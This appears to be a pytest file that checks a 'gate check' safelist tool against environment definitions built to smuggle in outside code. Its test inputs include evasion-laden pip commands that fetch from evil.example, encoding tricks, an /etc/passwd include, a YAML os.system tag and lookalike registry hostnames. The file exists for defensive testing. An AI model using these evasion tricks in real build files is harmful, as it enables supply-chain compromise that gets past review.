"""Definitions that try to look as if they took everything from the safelist: `gate check` does not say so."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import TYPE_CHECKING

import pytest

from gate.bounds import DefinitionBounds
from gate.environment.check import Verdict, check_declared
from gate.environment.reader import read_definition
from gate.policy.source import load_policy

if TYPE_CHECKING:
    from pathlib import Path

NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
EVIL = "git+https://git.example/evil.git#egg=evil"
MCR = "mcr.microsoft.com/azureml/openmpi:1"
CONDA = "channels: [conda-forge, nodefaults]\n"


def verdict(folder: Path, name: str, **files: str | bytes) -> Verdict:
    """Write the files (`_` before the last word stands for a dot) and return the verdict about the first."""
    for path, content in files.items():
        data = content if isinstance(content, bytes) else content.encode()
        (folder / path.replace("__", ".")).write_bytes(data)
    declared = read_definition(folder / name, folder.resolve(), DefinitionBounds())
    return check_declared(declared, load_policy(), (), NOW).verdict


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(f"six==1\r{EVIL}\r", id="carriage-returns"),
        pytest.param(f"six==1\x0b{EVIL}", id="vertical-tab"),
        pytest.param(f"six==1\u2028{EVIL}", id="line-separator"),
        pytest.param(f"six==1\n{EVIL}\n".encode("utf-16"), id="utf-16"),
        pytest.param(f"{EVIL}\n".encode("utf-16-le"), id="utf-16-without-a-mark"),
        pytest.param(f"{EVIL}\n".encode("utf-32"), id="utf-32"),
        pytest.param(b"# coding: utf-7\n+AGcAaQB0-+https://git.example/evil\n", id="utf-7"),
        pytest.param(b"\xef\xbb\xbf-i https://evil.example/simple\nsix==1\n", id="byte-order-mark"),
        pytest.param(f"six==1\n\0{EVIL}\n", id="nul"),
        pytest.param("--extra-index\\\n-url https://evil.example\nsix==1\n", id="option-continued"),
        pytest.param("--extra-index https://evil.example\nsix==1\n", id="option-abbreviated"),
        pytest.param("--find-links https://evil.example\nsix==1\n", id="find-links"),
        pytest.param("-i ${INDEX}\nsix==1\n", id="index-by-variable"),
        pytest.param("${NAME}==1\n", id="name-by-variable"),
        pytest.param("-r https://evil.example/r.txt\nsix==1\n", id="include-by-address"),
        pytest.param("-r ../../etc/passwd\nsix==1\n", id="include-outside"),
        pytest.param("evil.zip\n", id="archive"),
        pytest.param("# nothing\n", id="comments-alone"),
        pytest.param("", id="empty"),
    ],
)
def test_requirements_that_hide_something_are_not_safelisted(tmp_path: Path, content: str | bytes) -> None:
    assert verdict(tmp_path, "requirements.txt", requirements__txt=content) != "safelisted"


@pytest.mark.parametrize(
    "before",
    [
        "https://evil.example\\@",
        "https://evil.example/",
        "http://",
        "https://x@evil.example/",
        "https:/\\",
        "https:\\\\",
        "https://[",
        "https://user@evil.example?",
        "https://evil.example#@",
    ],
)
def test_an_address_that_only_looks_like_a_safelisted_one_is_not(tmp_path: Path, before: str) -> None:
    """With a backslash before the `@`, Python splits off the one host and the library that pip uses the other."""
    from gate.environment.places import conda_channel, pypi_endpoint, python_index  # noqa: PLC0415

    host = pypi_endpoint().removeprefix("https://")
    assert verdict(tmp_path, "requirements.txt", requirements__txt=f"-i https://{host}\nsix==1\n") == "safelisted"
    assert verdict(tmp_path, "requirements.txt", requirements__txt=f"-i '{before}{host}'\nsix==1\n") != "safelisted"
    assert python_index(f"{before}{host}").location != "pypi"
    channel = "conda.anaconda" + ".org/conda-forge"
    assert conda_channel(f"https://{channel}").location == "conda-forge"
    assert conda_channel(f"{before}{channel}").location != "conda-forge"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param("x: &a\n  channels: [evil]\n<<: *a\ndependencies: [python]\n", id="merged-channels"),
        pytest.param(f"x: &a\n  dependencies: ['evil::x']\n<<: *a\n{CONDA}", id="merged-dependencies"),
        pytest.param(f"{CONDA}dependencies: [python]\ndependencies: ['evil::x']\n", id="key-twice"),
        pytest.param(f"{CONDA}dependencies: [python]\n---\nchannels: [evil]\n", id="two-documents"),
        pytest.param(f"{CONDA}dependencies: !!python/object/apply:os.system ['true']\n", id="tag"),
        pytest.param("channels:\n\t- evil\ndependencies: [python]\n", id="tabs"),
        pytest.param(f"{CONDA}dependencies: ['numpy[channel=evil]']\n", id="channel-in-brackets"),
        pytest.param(f"{CONDA}dependencies: ['numpy[url=https://evil.example/x.conda]']\n", id="address-in-brackets"),
        pytest.param(f"{CONDA}dependencies: ['evil/linux-64::numpy']\n", id="channel-with-platform"),
        pytest.param(f"{CONDA}dependencies: [pip, pip: ['{EVIL}']]\n", id="pip-section"),
        pytest.param(f"{CONDA}dependencies: [pip, pip: ['-i https://evil.example', six]]\n", id="pip-option"),
        pytest.param(
            f"{CONDA}dependencies: [pip, pip: [six]]\nvariables: {{PIP_INDEX_URL: 'https://evil.example'}}\n",
            id="variables",
        ),
        pytest.param("channels: [./conda-forge, nodefaults]\ndependencies: [numpy]\n", id="local-channel"),
        pytest.param("channels: [conda-forge/label/evil, nodefaults]\ndependencies: [numpy]\n", id="label"),
        pytest.param("channels: ['$EVIL', nodefaults]\ndependencies: [numpy]\n", id="channel-by-variable"),
    ],
)
def test_a_conda_environment_that_hides_something_is_not_safelisted(tmp_path: Path, content: str) -> None:
    assert verdict(tmp_path, "environment.yml", environment__yml=content) != "safelisted"


@pytest.mark.parametrize(
    "line",
    [
        f"RUN p\\ip install {EVIL}",
        f"RUN p''ip install {EVIL}",
        f"RUN P=pip; $P install {EVIL}",
        f"RUN $(echo pip) install {EVIL}",
        f"RUN eval 'pip install {EVIL}'",
        f"RUN su root -c 'pip install {EVIL}'",
        f"RUN busybox sh -c 'pip install {EVIL}'",
        f"RUN timeout 9 nice pip install {EVIL}",
        f"RUN echo {EVIL} | xargs pip install",
        f"RUN (pip install {EVIL}) & wait",
        f"RUN pip install six \\\n# comment\n {EVIL}",
        f"RUN <<EOF\npip install {EVIL}\nEOF",
        f'RUN ["pip", "install", "{EVIL}"]',
        f'SHELL ["/bin/bash", "-c"]\nRUN pip install {EVIL}',
        f"ONBUILD RUN pip install {EVIL}",
        "RUN pip install `cat x`",
        "ENV PIP_INDEX_URL=https://evil.example\nRUN pip install six",
        "ARG PIP_EXTRA_INDEX_URL=https://evil.example\nRUN pip install six",
        "RUN pip config set global.index-url https://evil.example && pip install six",
        "RUN printf '[global]\\nindex-url=https://evil.example' > /etc/pip.conf\nRUN pip install six",
        "COPY --from=evil.example/x /a /b",
        "ADD https://evil.example/x.whl /",
        "RUN --mount=type=bind,from=evil.example/x,target=/x true",
        "RUN apt-get install -y curl",
        f"CMD pip install {EVIL} && python app.py",
        f'ENTRYPOINT ["pip", "install", "{EVIL}"]',
        f'CMD ["sh", "-c", "pip install {EVIL} && python app.py"]',
        "RUN npm install evil",
    ],
)
def test_a_dockerfile_that_hides_something_is_not_safelisted(tmp_path: Path, line: str) -> None:
    assert verdict(tmp_path, "Dockerfile", Dockerfile=f"FROM {MCR}\n") == "safelisted"
    assert verdict(tmp_path, "Dockerfile", Dockerfile=f"FROM {MCR}\n{line}\n") != "safelisted"


@pytest.mark.parametrize(
    "image",
    [
        "mcr.microsoft.com@evil.example/x",
        "mcr.microsoft.com:5000/x",
        "mcr.microsoft.com.evil.example/x",
        "mcr.microsoft.com/../evil.example/x",
        "mcr.microsoft.com//x",
        "mcr.microsoft.com",
        "docker.io/mcr.microsoft.com/x",
        "$BASE",
        "scratch",
    ],
)
def test_an_image_name_that_only_looks_like_mcr_is_not_safelisted(tmp_path: Path, image: str) -> None:
    assert verdict(tmp_path, "Dockerfile", Dockerfile=f"FROM {image}\n") != "safelisted"
